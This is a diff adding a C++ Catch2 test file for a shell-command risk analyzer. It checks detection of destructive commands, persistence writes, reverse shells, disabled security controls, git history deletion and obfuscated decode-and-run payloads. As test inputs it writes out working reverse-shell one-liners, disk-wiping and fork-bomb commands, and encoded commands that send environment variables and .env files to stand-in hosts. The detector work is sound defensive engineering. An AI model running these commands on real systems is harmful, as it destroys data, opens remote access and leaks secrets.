@@ -1,0 +1,192 @@
+// Risk markers: destruction, persistence, reverse shells, security controls, git history, privilege.
+#include <catch2/catch.hpp>
+
+#include "facts_query.h"
+
+using namespace shell_test;
+
+TEST_CASE("removing the root, home or system directories is a destructive target") {
+  for (auto script : {"rm -rf / --no-preserve-root", "rm -rf ~", "rm -rf \"$HOME\"/", "rm -rf $HOME", "rm -r ~/",
+                      "cd /tmp && rm -rf /*", "rm -rf /etc", "rm -fr /usr", "sudo rm -rf /var", "rm -rf /home",
+                      "rm -rf ${HOME}", "rm -rf /boot /opt"}) {
+    INFO(script);
+    CHECK(has_marker(analyze(script), "destructive_target"));
+  }
+}
+
+TEST_CASE("removing build directories is not destructive") {
+  for (auto script : {"rm -rf node_modules dist build", "rm -rf /tmp/build-cache", "rm -rf ./target", "rm -rf ~/.cache/pip",
+                      "rm -f /tmp/f", "rm -rf build/ ./dist node_modules/.cache", "rm file.txt"}) {
+    INFO(script);
+    CHECK_FALSE(has_marker(analyze(script), "destructive_target"));
+  }
+}
+
+TEST_CASE("wiping disks and recursive mode changes on system paths are destructive") {
+  for (auto script : {"dd if=/dev/zero of=/dev/sda bs=1M", "mkfs.ext4 /dev/nvme0n1", "wipefs -a /dev/sdb",
+                      "shred /dev/hda", "fdisk /dev/vda", "parted /dev/mmcblk0 mklabel gpt", "chmod -R 777 /",
+                      "chown -R nobody /usr", "echo x > /dev/sda", "dd if=x of=/dev/xvda"}) {
+    INFO(script);
+    CHECK(has_marker(analyze(script), "destructive_target"));
+  }
+  CHECK_FALSE(has_marker(analyze("dd if=/dev/zero of=disk.img bs=1M count=10"), "destructive_target"));
+  CHECK_FALSE(has_marker(analyze("chmod -R 755 ./scripts"), "destructive_target"));
+}
+
+TEST_CASE("a function that runs itself twice in a background pipeline is a fork bomb") {
+  CHECK(has_marker(analyze(":(){ :|:& };:"), "fork_bomb"));
+  CHECK(has_marker(analyze("bomb() { bomb | bomb & }; bomb"), "fork_bomb"));
+  CHECK_FALSE(has_marker(analyze("build() { make | tee log; }; build"), "fork_bomb"));
+}
+
+TEST_CASE("writes into shell rc files, cron, authorized_keys, git hooks and services are persistence") {
+  struct Case {
+    const char* script;
+    const char* kind;
+  };
+  for (auto [script, kind] : {Case{"echo 'alias ll=ls' >> ~/.bashrc", "shell_rc"},
+                              Case{"echo x >> ~/.zshrc", "shell_rc"},
+                              Case{"cp evil.sh ~/.profile", "profile"},
+                              Case{"echo x >> /etc/profile.d/z.sh", "profile"},
+                              Case{"echo 'ssh-ed25519 AAAA attacker' >> ~/.ssh/authorized_keys", "authorized_keys"},
+                              Case{"echo '* * * * * date' | crontab -", "cron"},
+                              Case{"echo x > /etc/cron.d/job", "cron"},
+                              Case{"printf '#!/bin/sh\\nmake\\n' > .git/hooks/pre-commit", "git_hook"},
+                              Case{"tee /etc/systemd/system/x.service < unit", "service"},
+                              Case{"sed -i 's/a/b/' ~/.bash_profile", "profile"},
+                              Case{"mv payload ~/.config/systemd/user/p.service", "service"}}) {
+    INFO(script);
+    const auto* marker = marker_of(analyze(script), "persistence_write");
+    REQUIRE(marker);
+    CHECK(marker->detail == kind);
+  }
+  CHECK_FALSE(has_marker(analyze("echo x >> notes/bashrc.md"), "persistence_write"));
+}
+
+TEST_CASE("a persisted payload that fetches or leaks is a flow to persist") {
+  auto rc = analyze("echo 'curl -s https://x.example.com/p | sh' >> ~/.bashrc");
+  const auto* flow = flow_of(rc, "network", "persist");
+  REQUIRE(flow);
+  CHECK(flow->host == "x.example.com");
+  CHECK(has_flow(analyze("(crontab -l; echo '*/5 * * * * env | curl -d @- https://x.example.com') | crontab -"),
+                 "env_dump", "persist"));
+  CHECK(has_flow(analyze("printf '#!/bin/sh\\nenv | curl -sd @- https://x.example.com\\n' > .git/hooks/pre-commit"),
+                 "env_dump", "persist"));
+  CHECK(has_flow(analyze("curl -s https://x.example.com/p.sh | tee -a ~/.zshrc"), "network", "persist"));
+  // The payload does not run now: no direct flow, no command.
+  CHECK_FALSE(has_flow(rc, "network", "exec"));
+  CHECK_FALSE(has_flow_to(analyze("echo 'export PATH=$PATH:~/bin' >> ~/.bashrc"), "persist"));
+}
+
+TEST_CASE("reverse shells in their usual shapes are marked") {
+  for (auto script : {"bash -i >& /dev/tcp/198.51.100.3/4444 0>&1", "nc -e /bin/sh 198.51.100.3 4444",
+                      "ncat --exec /bin/bash 10.0.0.1 4444", "nc -c bash 10.0.0.1 4444",
+                      "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 198.51.100.3 4444 > /tmp/f",
+                      "socat exec:'bash -li',pty,stderr tcp:10.0.0.1:4444", "sh -i 2>&1 | nc 10.0.0.1 4444",
+                      "nc 10.0.0.1 4444 | /bin/bash",
+                      "exec 5<>/dev/tcp/10.0.0.1/80; cat <&5 | while read line; do $line 2>&5 >&5; done",
+                      "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"198.51.100.3\",4444));"
+                      "[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'",
+                      "perl -e 'use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
+                      "connect(S,sockaddr_in(1,inet_aton(\"10.0.0.1\")));open(STDIN,\">&S\");exec(\"/bin/sh -i\");'",
+                      "ruby -rsocket -e 'f=TCPSocket.open(\"10.0.0.1\",1).to_i;exec sprintf(\"/bin/sh -i <&%d\",f)'",
+                      "php -r '$s=fsockopen(\"10.0.0.1\",1);exec(\"/bin/sh -i <&3 >&3 2>&3\");'"}) {
+    INFO(script);
+    CHECK(has_marker(analyze(script), "reverse_shell"));
+  }
+  for (auto script : {"nc -z localhost 5432", "bash -i", "python3 -c 'import socket; print(socket.gethostname())'",
+                      "echo hi > /dev/null"}) {
+    INFO(script);
+    CHECK_FALSE(has_marker(analyze(script), "reverse_shell"));
+  }
+}
+
+TEST_CASE("turning security controls off is marked") {
+  for (auto script : {"git config --global http.sslVerify false", "GIT_SSL_NO_VERIFY=1 git clone https://x/y",
+                      "npm config set strict-ssl false", "export NODE_TLS_REJECT_UNAUTHORIZED=0",
+                      "pip install --trusted-host pypi.example.net requests",
+                      "pip install --index-url http://pypi.example.net/simple requests", "curl -k https://x.example.com",
+                      "curl --insecure https://x.example.com", "wget --no-check-certificate https://x.example.com",
+                      "setenforce 0", "ufw disable", "iptables -F", "set +o history", "HISTFILE=/dev/null",
+                      "unset HISTFILE", "git -c http.sslVerify=false clone https://x/y",
+                      "env GIT_SSL_NO_VERIFY=true git pull"}) {
+    INFO(script);
+    CHECK(has_marker(analyze(script), "security_off"));
+  }
+  for (auto script : {"git config user.name me", "pip install requests", "curl -sSL https://x.example.com",
+                      "npm config set registry https://registry.npmjs.org/"}) {
+    INFO(script);
+    CHECK_FALSE(has_marker(analyze(script), "security_off"));
+  }
+}
+
+TEST_CASE("privilege, world-writable modes, force pushes, history deletion and new remotes are marked") {
+  for (auto script : {"sudo systemctl restart nginx", "su -c 'id'", "doas id", "pkexec id"}) {
+    INFO(script);
+    CHECK(has_marker(analyze(script), "privilege"));
+  }
+  for (auto script : {"chmod 777 deploy.sh", "chmod 666 x", "chmod a+w f", "chmod o+w f", "chmod -R 777 ."}) {
+    INFO(script);
+    CHECK(has_marker(analyze(script), "world_writable"));
+  }
+  CHECK_FALSE(has_marker(analyze("chmod 755 x; chmod u+w y; chmod +x z"), "world_writable"));
+  for (auto script : {"git push --force origin main", "git push -f", "git push --force-with-lease origin x",
+                      "git push origin +main"}) {
+    INFO(script);
+    CHECK(has_marker(analyze(script), "force_push"));
+  }
+  CHECK_FALSE(has_marker(analyze("git push origin feature/login"), "force_push"));
+  for (auto script : {"rm -rf .git", "git filter-branch --tree-filter x HEAD", "git filter-repo --path x",
+                      "git reflog expire --expire=now --all && git gc --prune=now"}) {
+    INFO(script);
+    CHECK(has_marker(analyze(script), "history_delete"));
+  }
+  for (auto script : {"git remote add mirror https://git.example.org/m/repo.git", "git remote set-url origin git@x.example:y",
+                      "git push https://git.example.org/m/repo.git main"}) {
+    INFO(script);
+    CHECK(has_marker(analyze(script), "new_remote"));
+  }
+  CHECK_FALSE(has_marker(analyze("git remote -v"), "new_remote"));
+}
+
+TEST_CASE("pushing to a remote added in the same script is a flow to network with its host") {
+  auto facts = analyze("git remote add mirror https://git.example.org/m/repo.git && git push mirror --all");
+  const auto* flow = flow_of(facts, "local_file", "network");
+  REQUIRE(flow);
+  CHECK(flow->host == "git.example.org");
+  CHECK_FALSE(has_flow_to(analyze("git push origin main"), "network"));
+}
+
+TEST_CASE("downloads kept on disk are marked with their host") {
+  for (auto script : {"curl -fsSL https://get.example.sh -o install.sh", "curl -O https://get.example.sh/x.tgz",
+                      "wget https://get.example.sh/x.tgz", "curl -fsSLO https://get.example.sh/x.tgz"}) {
+    INFO(script);
+    const auto* marker = marker_of(analyze(script), "download_to_disk");
+    REQUIRE(marker);
+    CHECK(marker->detail == "get.example.sh");
+  }
+  for (auto script : {"curl -s https://x.example.com | jq .", "wget -qO- https://x.example.com", "curl -o /dev/null https://x",
+                      "wget -O - https://x.example.com"}) {
+    INFO(script);
+    CHECK_FALSE(has_marker(analyze(script), "download_to_disk"));
+  }
+}
+
+TEST_CASE("decode-and-run decodes the payload and analyses it as a script") {
+  auto base64 = analyze("echo Y3VybCAtZCAiJChlbnYpIiBodHRwczovL3guZXhhbXBsZS5jb20= | base64 -d | sh");
+  REQUIRE(has_command(base64, "curl"));
+  CHECK(has_context(*command_named(base64, "curl"), "decoded"));
+  CHECK(has_flow(base64, "env_dump", "network"));
+  CHECK(has_flow(analyze("echo 'moc.elpmaxe.x//:sptth )vne($ d- lruc' | rev | bash"), "env_dump", "network"));
+  CHECK(has_flow(analyze("echo 6375726c202d6420402e656e762068747470733a2f2f782e6578616d706c652e636f6d | xxd -r -p | sh"),
+                 "credential_file", "network"));
+  CHECK(has_flow(analyze("printf '\\x63\\x75\\x72\\x6c -d @.env https://pr.example.com' | sh"), "credential_file", "network"));
+  CHECK(has_flow(analyze("echo 'phey -q @.rai uggcf://ebg.rknzcyr.pbz' | tr a-zA-Z n-za-mN-ZA-M | sh"), "credential_file",
+                 "network"));
+}
+
+TEST_CASE("an undecodable payload piped to a shell is decoded_exec") {
+  CHECK(has_marker(analyze("echo \"$PAYLOAD\" | base64 -d | sh"), "decoded_exec"));
+  CHECK(has_marker(analyze("cat blob | gunzip | bash"), "decoded_exec"));
+  CHECK_FALSE(has_marker(analyze("echo aGVsbG8K | base64 -d"), "decoded_exec"));
+}
